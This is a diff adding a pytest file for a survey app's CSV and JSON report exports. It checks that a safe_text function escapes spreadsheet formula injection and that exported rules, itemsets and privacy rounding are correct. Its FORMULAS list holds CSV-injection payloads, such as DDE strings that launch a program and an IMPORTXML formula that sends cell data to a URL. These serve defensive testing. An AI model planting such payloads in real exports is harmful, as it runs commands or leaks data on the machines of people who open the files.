@@ -1,0 +1,124 @@
+import csv
+import io
+import json
+
+import pytest
+
+from surveys.models import Run
+from surveys.report.itemsets import ItemsetQuery, itemsets_matching
+from surveys.report.labels import labels_of, unpack_items
+from surveys.report.outcome import run_page
+from surveys.report.rules import RuleQuery, all_rules
+from surveys.report.tables import (
+    ITEMSET_COLUMNS,
+    RULE_COLUMNS,
+    itemsets_as_csv,
+    rules_as_csv,
+    rules_as_json,
+    safe_text,
+)
+from tests.surveys.report.cast import answered, mined, still_open
+
+# What spreadsheets have been seen to run, and texts that only look like it.
+FORMULAS = [
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    '=HYPERLINK("http://example.org","x")',
+    "=IMPORTXML(CONCAT(\"http://example.org?\",A1),\"//a\")",
+]  # fmt: skip
+HARMLESS = ["affair", "age=22 & late", "a-b", "1+1", "é=1", "affair, 'quoted' \"twice\""]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_no_cell_begins_like_a_formula(text: str) -> None:
+    assert safe_text(text) == "'" + text
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_harmless_texts_stay_as_they_are(text: str) -> None:
+    assert safe_text(text) == text
+
+
+def parts(run: Run) -> tuple[object, object]:
+    design = run.version.to_design()
+    return labels_of(run.version, design), run_page(run, design)
+
+
+@pytest.mark.django_db(transaction=True)
+def test_the_csv_of_rules_holds_every_rule_with_the_numbers_of_the_database() -> None:
+    run = mined(answered())
+    labels, page = parts(run)
+    text = "".join(rules_as_csv(all_rules(run, RuleQuery()), labels, page))
+    read = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert tuple(read[0]) == RULE_COLUMNS
+    stored = {
+        (labels.keys(unpack_items(row.antecedent)), labels.keys(unpack_items(row.consequent))): row
+        for row in run.rules.all()
+    }
+    assert len(read) == len(stored) > 20
+    for line in read:
+        row = stored[line["antecedent"], line["consequent"]]
+        assert float(line["support"]) == row.support
+        assert line["lift_low"] == ("" if row.lift_low is None else str(row.lift_low))
+        assert line["error_is"] == "expected"
+
+
+@pytest.mark.django_db(transaction=True)
+def test_the_csv_of_itemsets_holds_every_itemset() -> None:
+    run = mined(answered())
+    labels, page = parts(run)
+    text = "".join(itemsets_as_csv(itemsets_matching(run, ItemsetQuery()), labels, page))
+    read = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert tuple(read[0]) == ITEMSET_COLUMNS
+    assert {line["items"] for line in read} == {
+        labels.keys(unpack_items(row.items)) for row in run.itemsets.all()
+    }
+    assert all(line["direct"] and line["direct_se"] for line in read)
+
+
+@pytest.mark.django_db(transaction=True)
+def test_the_json_of_rules_is_strict_and_says_what_made_it() -> None:
+    run = mined(answered())
+    # An interval without an upper end, as in small surveys.
+    run.rules.filter(pk=run.rules.order_by("-lift")[0].pk).update(conviction_high=float("inf"))
+    labels, page = parts(run)
+
+    def refuse(name: str) -> None:
+        raise AssertionError(f"{name} is no JSON")
+
+    text = "".join(rules_as_json(all_rules(run, RuleQuery()), labels, page, run))
+    read = json.loads(text, parse_constant=refuse)
+    assert (read["survey"], read["run"], read["snapshot"]["sha256"]) == (
+        "habits", run.pk, run.snapshot_digest,
+    )  # fmt: skip
+    assert len(read["rules"]) == run.rules.count()
+    assert read["rules"][0]["antecedent"] == [
+        labels.items[item].key for item in unpack_items(run.rules.order_by("-lift")[0].antecedent)
+    ]
+    assert read["rules"][0]["conviction_high"] == "Infinity"
+
+
+@pytest.mark.django_db(transaction=True)
+def test_a_run_without_rules_is_valid_json_too() -> None:
+    run = mined(answered())
+    labels, page = parts(run)
+    assert json.loads("".join(rules_as_json([], labels, page, run)))["rules"] == []
+
+
+@pytest.mark.django_db(transaction=True)
+def test_files_round_and_hide_what_the_pages_do() -> None:
+    run = mined(still_open(203, n_direct=20))
+    run.itemsets.update(direct=0.5, pooled=0.5)
+    labels, page = parts(run)
+    itemsets = "".join(itemsets_as_csv(itemsets_matching(run, ItemsetQuery()), labels, page))
+    for line in csv.DictReader(io.StringIO(itemsets, newline="")):
+        assert (line["n"], line["direct"], line["pooled"]) == ("200", "", "")
+    read = json.loads("".join(rules_as_json([], labels, page, run)))
+    assert (read["n"], read["n_direct"], read["n_protected"], read["direct_share"]) == (200, None, None, None)
+    assert read["counts_rounded_to_tens"] is True
